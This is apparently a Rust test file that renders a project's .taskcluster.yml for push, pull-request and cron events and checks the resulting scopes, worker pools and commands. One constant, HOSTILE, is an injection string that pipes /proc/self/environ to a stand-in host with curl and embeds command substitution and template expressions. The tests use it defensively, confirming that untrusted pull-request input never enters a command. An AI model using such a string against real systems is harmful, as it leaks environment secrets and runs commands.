//! `.taskcluster.yml`, rendered for events as Taskcluster's GitHub service and build-decision do.

use serde_json::{Value, json};

use crate::fleet::schemas::Schemas;

const REPOSITORY: &str = "https://github.com/taskcluster/taskgraph-images";
/// What git and GitHub allow in a name, and a shell or a template would act upon.
const HOSTILE: &str = "x';curl${IFS}-d@/proc/self/environ${IFS}evil;'$(id)`id`|{$eval: 1}{{x}}";

fn template() -> Value {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../.taskcluster.yml");
    serde_yaml::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

/// The tasks of an event.
fn render(mut context: Value) -> Vec<Value> {
    context["taskcluster_root_url"] = "https://taskcluster.invalid".into();
    context["now"] = "2026-11-25T17:00:00.000Z".into();
    if context["tasks_for"].as_str().unwrap().starts_with("github") {
        // Only the service has this function; json-e knows it under no other name.
        context["as_slugid"] = Value::Null;
    }
    let text = template()["tasks"].to_string();
    let template: Value = serde_json::from_str(&text.replace(
        r#"as_slugid(\"decision_task\")"#,
        "'fN1SbArXTPSVFNUvaOlinQ'",
    ))
    .unwrap();
    let rendered = json_e::render(&template, &context).unwrap();
    rendered.as_array().unwrap().clone()
}

fn push(repository: &str, reference: &str) -> Value {
    json!({
        "tasks_for": "github-push",
        "event": {
            "ref": reference, "before": "1".repeat(40), "after": "2".repeat(40),
            "repository": {"html_url": repository, "name": "taskgraph-images"},
            "pusher": {"name": "somebody", "email": "somebody@example.org"},
        },
    })
}

fn pull_request(tasks_for: &str, action: &str, draft: bool) -> Value {
    json!({
        "tasks_for": tasks_for,
        "event": {
            "action": action,
            "pull_request": {
                "number": 7, "draft": draft, "title": HOSTILE, "user": {"login": "stranger"},
                "head": {"ref": HOSTILE, "sha": "2".repeat(40),
                    "repo": {"html_url": "https://github.com/stranger/taskgraph-images", "name": "taskgraph-images"}},
                "base": {"ref": "main", "sha": "1".repeat(40), "repo": {"html_url": REPOSITORY, "name": "taskgraph-images"}},
            },
        },
    })
}

fn cron() -> Value {
    json!({
        "tasks_for": "cron",
        "ownTaskId": "fN1SbArXTPSVFNUvaOlinQ",
        "repository": {"url": REPOSITORY, "project": "taskgraph-images", "level": "3", "type": "git"},
        "push": {"branch": "main", "revision": "2".repeat(40), "owner": "cron"},
        "cron": {"task_id": "fN1SbArXTPSVFNUvaOlinQ", "job_name": "rebuild", "job_symbol": "rebuild",
            "quoted_args": "--target-tasks-method=rebuild", "input": {"force": true}},
    })
}

/// What matters of a task on a line; nothing for no task.
fn line(context: Value) -> String {
    let tasks = render(context);
    let lines: Vec<String> = tasks
        .iter()
        .map(|task| {
            if let Some(schemas) = Schemas::from_environment() {
                let mut definition = task.clone();
                definition.as_object_mut().unwrap().remove("taskId");
                assert_eq!(
                    schemas.faults(&definition),
                    Vec::<String>::new(),
                    "{task:#}"
                );
            }
            format!(
                "{}/{} {} {}",
                task["provisionerId"].as_str().unwrap(),
                task["workerType"].as_str().unwrap(),
                task["schedulerId"].as_str().unwrap(),
                task["scopes"]
            )
        })
        .collect();
    lines.join("\n")
}

#[test]
fn levels_and_roles() {
    let fork = "https://github.com/stranger/taskgraph-images";
    let events = [
        ("push to main", push(REPOSITORY, "refs/heads/main")),
        ("push to main of a fork", push(fork, "refs/heads/main")),
        (
            "push to another branch",
            push(REPOSITORY, "refs/heads/other"),
        ),
        ("push to a hostile branch", push(REPOSITORY, HOSTILE)),
        (
            "pull request",
            pull_request("github-pull-request", "opened", false),
        ),
        (
            "of a stranger",
            pull_request("github-pull-request-untrusted", "synchronize", false),
        ),
        (
            "a draft",
            pull_request("github-pull-request", "opened", true),
        ),
        (
            "closed",
            pull_request("github-pull-request", "closed", false),
        ),
        ("cron", cron()),
    ];
    let lines: Vec<String> = events
        .into_iter()
        .map(|(name, event)| format!("{name}: {}", line(event)))
        .collect();
    insta::assert_snapshot!(lines.join("\n"), @r#"
    push to main: taskgraph-images-3/decision taskgraph-images-level-3 ["assume:repo:github.com/taskcluster/taskgraph-images:branch:main"]
    push to main of a fork: taskgraph-images-1/decision taskgraph-images-level-1 ["assume:repo:github.com/stranger/taskgraph-images:branch:main"]
    push to another branch: 
    push to a hostile branch: 
    pull request: taskgraph-images-1/decision taskgraph-images-level-1 ["assume:repo:github.com/taskcluster/taskgraph-images:pull-request"]
    of a stranger: taskgraph-images-1/decision taskgraph-images-level-1 ["assume:repo:github.com/taskcluster/taskgraph-images:pull-request-untrusted"]
    a draft: 
    closed: 
    cron: taskgraph-images-3/decision taskgraph-images-level-3 ["assume:repo:github.com/taskcluster/taskgraph-images:cron:rebuild"]
    "#);
}

#[test]
fn nothing_that_an_outsider_chooses_is_part_of_a_command() {
    let task = &render(pull_request(
        "github-pull-request-untrusted",
        "opened",
        false,
    ))[0];
    assert_eq!(
        task["payload"]["command"],
        json!([
            "taskgraph-images",
            "decision",
            "--artifacts",
            "/home/worker/artifacts"
        ])
    );
    let env = task["payload"]["env"].as_object().unwrap();
    assert_eq!(env["TASKGRAPH_IMAGES_HEAD_REF"], HOSTILE);
    let mut rest = task.clone();
    rest["payload"]["env"] = Value::Null;
    assert!(!rest.to_string().contains("curl"), "{rest:#}");
}

#[test]
fn cron_jobs_pass_their_words_and_input() {
    let task = &render(cron())[0];
    let env = &task["payload"]["env"];
    assert_eq!(
        env["TASKGRAPH_IMAGES_CRON_ARGUMENTS"],
        "--target-tasks-method=rebuild"
    );
    assert_eq!(env["TASKGRAPH_IMAGES_CRON_INPUT"], r#"{"force":true}"#);
    insta::assert_snapshot!(task["routes"], @r#"["checks","index.taskgraph-images.v2.taskgraph-images.latest.taskgraph.decision-rebuild","index.taskgraph-images.v2.taskgraph-images.revision.2222222222222222222222222222222222222222.taskgraph.decision-rebuild","index.taskgraph-images.v2.taskgraph-images.revision.2222222222222222222222222222222222222222.cron.fN1SbArXTPSVFNUvaOlinQ"]"#);
}
